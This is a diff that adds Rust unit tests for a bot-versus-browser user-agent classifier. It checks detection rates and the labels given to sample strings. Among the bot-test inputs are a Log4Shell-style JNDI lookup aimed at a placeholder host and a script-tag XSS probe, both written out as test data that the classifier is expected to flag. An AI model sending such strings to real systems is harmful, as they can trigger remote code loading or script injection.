@@ -347,3 +347,49 @@ impl MatcherFixture {
         }
     }
 }
+
+/// What shape alone shows: a list that every name is missing from, so that memory has no part in it.
+#[test]
+fn most_bots_are_found_without_their_names() {
+    let nameless = UserAgentMatcher::new(Vec::new(), []);
+    let bots: Vec<&str> =
+        include_str!("../../../../tests/data/bots.txt").lines().filter(|line| !line.starts_with('#')).collect();
+    let found = bots.iter().filter(|agent| matches!(nameless.claim(agent.as_bytes()), Claim::Bot { .. })).count();
+    assert!(found * 100 >= bots.len() * 93, "{found} of {}", bots.len());
+    for agent in include_str!("../../../../tests/data/people.txt").lines().filter(|line| !line.starts_with('#')) {
+        assert_eq!(nameless.claim(agent.as_bytes()), Claim::Browser, "{agent}");
+    }
+}
+
+#[test]
+fn what_is_no_browser_and_no_device_is_a_program() {
+    let fixture = MatcherFixture::new();
+    for agent in [
+        "content harvest of next week",
+        "unheard of tool",
+        "tutorial-of-week/1",
+        "unheard/2.0 (build 7; production)",
+        "Mozilla/5.0 (${jndi:ldap://a.example/x})",
+        "<script>alert(1)</script>",
+        "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.14393.187",
+        "Mozilla/5.0 (linux) AppleWebKit/537.36 (KHTML, like Gecko) jsdom/20.0.0",
+        "Agent Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
+    ] {
+        assert!(matches!(fixture.claim(agent), Claim::Bot { .. }), "{agent}");
+    }
+    for agent in [
+        "Nokia6100/1.0 (04.01) Profile/MIDP-1.0 Configuration/CLDC-1.0",
+        "portalmmm/2.0 N210i(c20;TB)",
+        "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UD1A)",
+        "AppleCoreMedia/1.0.0.21G93 (iPhone; U; CPU OS 17_6 like Mac OS X; en_us)",
+        "VLC/3.0.20 LibVLC/3.0.20",
+        "PocketPlayer/2.1 (https://player.example)",
+        "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17726; Pro)",
+        "LG-D722 Mozilla/5.0 (Linux; Android 5.0.2; LG-D722) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/34.0 Mobile Safari/537.36",
+        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; SIMBAR={8137D03B-631D-11E2-B49A-00188B007032})",
+        "12345",
+        "MI 9",
+    ] {
+        assert_eq!(fixture.claim(agent), Claim::Browser, "{agent}");
+    }
+}
